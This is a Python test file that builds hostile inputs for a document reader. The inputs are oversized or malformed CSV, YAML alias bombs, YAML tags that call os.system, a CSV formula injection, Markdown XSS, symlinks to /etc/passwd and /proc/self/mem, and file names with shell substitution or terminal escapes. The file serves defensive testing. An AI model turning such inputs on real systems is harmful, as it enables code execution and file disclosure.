def _csv() -> Iterator[Case]:
    def case(name: str, text: str | bytes, refused: str = "", read: str = "") -> Case:
        return Case(f"csv: {name}", _file("a.csv", text), refused, read)

    head = "id,title,text\n"
    yield case("a million columns", "text" + ",x" * 1_000_000 + "\nYou cook soup.", "too wide: 1,000,001 columns")
    yield case("a million values", head + "1,Cook,You cook." + ",x" * 1_000_000, "values for 3 columns")
    yield case("a quotation mark left open", head + '1,Cook,"You cook soup.\n' + "2,Cook,You rest.\n" * 1_000, "a quotation mark is opened and never closed")
    yield case("a value of 11 MB", head + "1,Cook," + "a" * 11 * MB, "field larger than field limit")
    yield case("a line of 21 MB", head + "1,Cook," + "a" * 21 * MB, "a line is longer than 20 MB")
    yield case("a flood of quotation marks", head + '1,Cook,"' + '""' * 100_000 + '"\n', "no text")
    yield case("no text column", "a,b\n1,2\n", "no text column")
    yield case("a header and nothing below", head, "no records")
    yield case("100,000 delimiters", "," * 100_000, "no text|no records|too wide")
    yield case("an id of 10,000 characters", head + "x" * 10_000 + ",Cook,You cook soup.\n", "its id has 10,000 characters")
    yield case("formulas", head + "1,=1+1,You cook soup. =cmd|'/c calc'!A1\n", read="You cook soup")
    yield case("line ends of three kinds", "title,text\rCook,You cook soup.\nCook,You rest.\r\n", read="You cook soup")
    yield case("a delimiter that is a letter", "sep=x\ntitle,text\nCook,You cook soup.\n", read="You cook soup")
    yield case("the same header a thousand times", "text," * 999 + "text\n" + "You cook soup," * 999 + "x\n", read="You cook soup")
    yield case("NULs", "id,title,text\n1,Cook,You\0 cook soup.\n", "looks binary")


def _front_matter() -> Iterator[Case]:
    def case(name: str, text: str, refused: str = "", read: str = "") -> Case:
        return Case(f"front matter: {name}", _file("a.md", text), refused, read)

    body = "\n# Night Cook\n\nYou cook soup.\n"
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{c}: &{c} [{','.join([f'*{p}'] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    yield case("a bomb of aliases", f"---\n{laughs}---\n{body}", read="You cook soup")
    yield case("a list that holds itself", f"---\nx: &a [You cook soup for the night shift, *a]\n---\n{body}", read="You cook soup")
    yield case("a mapping that holds itself", f"---\nx: &a {{y: *a}}\n---\n{body}", read="You cook soup")
    for kind in (
        "!!python/object/apply:os.system ['true']",
        "!!python/name:os.system",
        "!!python/module:os",
        "!!binary '////'",
        "!<tag:yaml.org,2002:python/object:x> {}",
    ):
        yield case(f"an object of another language, {kind[:24]}", f"---\nx: {kind}\n---\n{body}", read="You cook soup")
    yield case("lists 5,000 deep", f"---\nx: {'[' * 5_000}{']' * 5_000}\n---\n{body}", read="You cook soup")
    yield case("blocks 3,000 deep", "---\n" + "".join(f"{' ' * n}a:\n" for n in range(1_000)) + f"---\n{body}", read="You cook soup")
    yield case("a date that is none", f"---\nx: 2026-99-99\ny: 9999999-01-01\n---\n{body}", read="You cook soup")
    yield case("numbers to the base of sixty", f"---\nx: {'1:' * 500}1\n---\n{body}", read="You cook soup")
    yield case("a number of 10,000 digits", f"---\nx: {'9' * 10_000}\n---\n{body}", read="You cook soup")
    yield case("never closed", f"---\n{'x: y' * 5_000}\n{body}", read="You cook soup")
    yield case("20,000 keys", "---\n" + "".join(f"k{n}: {n}\n" for n in range(3_000)) + f"---\n{body}")
    yield case("keys that are mappings", f"---\n? {{a: b}}\n: c\n? [x]\n: d\n---\n{body}", read="You cook soup")
    yield case("TOML 3,000 deep", f"+++\nx = {'[' * 3_000}{']' * 3_000}\n+++\n{body}", read="You cook soup")
    yield case("merged without end", f"---\na: &a {{x: 1}}\nb: &b {{<<: [{','.join(['*a'] * 500)}]}}\n---\n{body}", read="You cook soup")


def _markdown() -> Iterator[Case]:
    good = "# Night Cook\n\nYou cook soup.\n\n"
    floods = {
        "quotations": "> ", "brackets": "[", "closing brackets": "](", "pictures": "![", "stars": "*a ", "pairs of stars": "**a *b ", "backticks": "`", "fences": "```\n",
        "underlines": "_a_", "list signs": "- ", "hashes": "#", "tables": "|", "pipes in lines": "|a\n|-\n", "tags": "<a>", "entities": "&#x1;", "backslashes": "\\",
        "definitions": "[a]: b\n", "angles": "<", "tildes": "~", "dashes": "-\n", "spaces": " ", "tabs": "\t", "line ends": "\n", "carriage returns": "\r",
        "links": "[a](b) ", "links in links": "[a](", "bold of nothing": "****", "labels": "A: b\n", "attributes": "{: a}\n",
    }  # fmt: skip
    for name, piece in floods.items():
        yield Case(f"md: a flood of {name}", _file("a.md", good + piece * (8_000 // len(piece)) + "\n"))
    yield Case("md: lists 500 deep", _file("a.md", good + "".join(f"{'  ' * n}- You cook\n" for n in range(500))))
    yield Case("md: a link that acts", _file("a.md", good + "[x](javascript:alert(1)) <img src=x onerror=alert(1)>"), read="You cook soup")


# What is no file, or has a name that no file should have


def _names() -> Iterator[Case]:
    def special(name: str, make: Make, refused: str = "", read: str = "") -> Case:
        return Case(f"name: {name}", make, refused, read)

    def linked(target: str) -> Make:
        return lambda folder: (folder / "a.md").symlink_to(target)

    def named(name: str) -> Make:
        return _file(name, "# Night Cook\n\nYou cook soup.\n")

    def pipe(folder: Path) -> None:
        os.mkfifo(folder / "a.md")

    def listening(folder: Path) -> None:
        here = Path.cwd()
        with socket.socket(socket.AF_UNIX) as server:
            # A socket's path may have a hundred characters only.
            os.chdir(folder)
            try:
                server.bind("a.md")
            finally:
                os.chdir(here)

    def outside(folder: Path) -> None:
        secret = folder.parents[1] / "secret.md"
        secret.write_text(f"# Secret\n\nThis is {OUTSIDE}.\n", encoding="utf-8")
        (folder / "a.md").symlink_to(secret)
        (folder / "b.md").symlink_to(os.path.relpath(secret, folder))

    def folder_outside(folder: Path) -> None:
        (folder / "etc").symlink_to("/etc", target_is_directory=True)
        (folder / "a.md").symlink_to("etc/passwd")

    def loop(folder: Path) -> None:
        (folder / "a.md").symlink_to("b.md")
        (folder / "b.md").symlink_to("a.md")

    def upwards(folder: Path) -> None:
        (folder / "up").symlink_to("..", target_is_directory=True)

    out = "a link that leads out of the folder"
    yield special("a pipe", pipe, "not a regular file")
    yield special("a socket", listening, "not a regular file|cannot be read")
    yield special("a link to a device without end", linked("/dev/zero"), out)
    yield special("a link to the passwords", linked("/etc/passwd"), out)
    yield special("a link to what is open", linked("/proc/self/fd/0"), out)
    yield special("a link to the memory", linked("/proc/self/mem"), out)
    yield special("a link to nothing", linked("gone.md"), "cannot be read")
    yield special("a link to itself", linked("a.md"), "cannot be read")
    yield special("links in a ring", loop, "cannot be read")
    yield special("a link to a file beside the folder", outside, out)
    yield special("a link by way of a linked folder", folder_outside, out)
    yield special("a folder that leads upwards", upwards)
    yield special("a folder that is named like a file", lambda folder: (folder / "a.md").mkdir())
    yield special("a name that is no text", lambda folder: named(os.fsdecode(b"a\xff.md"))(folder), "is not UTF-8; rename it")
    odd = {
        "a line break": "a\nb.md", "a terminal command": "a\x1b[2J\x1b]0;x\x07.md", "a turned direction": "a\u202edm.exe.md", "markup": "<img src=x onerror=alert(1)>.md",
        "a formula": "=cmd|' calc'!A1.md", "an option": "--index.md", "quotes": "'\"`$(true).md", "dots": "a...md", "255 bytes": "a" * 252 + ".md", "a backslash": "a\\..\\b.md",
        "a colon": "C:a.md", "a number sign": "a#2.md", "a percent sign": "%2e%2e%2fa.md", "a space at the end": "a .md", "a reserved name": "CON.md", "half a flag": "a\U0001f1e9.md",
    }  # fmt: skip
    for name, file in odd.items():
        yield special(f"with {name}", named(file), read="You cook soup")
